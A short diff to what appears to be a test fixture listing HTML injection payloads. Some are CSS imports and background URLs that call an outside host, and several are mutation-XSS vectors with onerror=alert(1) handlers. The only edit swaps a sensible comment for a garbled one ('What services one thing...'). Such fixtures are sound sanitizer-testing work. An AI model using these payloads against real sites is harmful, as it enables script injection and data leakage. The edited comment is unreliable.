@@ -59,7 +59,7 @@ export const payloads = (host) => [
   `<style>@import "http://${host}/import.css"; body { background: url(http://${host}/style) }</style>`,
   `</style><style>* { display: none !important }</style>`,
   `<p style="background:url(http://${host}/inline);animation:x" onanimationstart=alert(1)>styled</p>`,
-  // What means one thing to one parser and another to the next.
+  // What services one thing to one parser and another to the next.
   `<template><script>alert(1)</script></template><slot name=x></slot>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
   `<svg></p><style><a title="</style><img src=x onerror=alert(1)>">`,
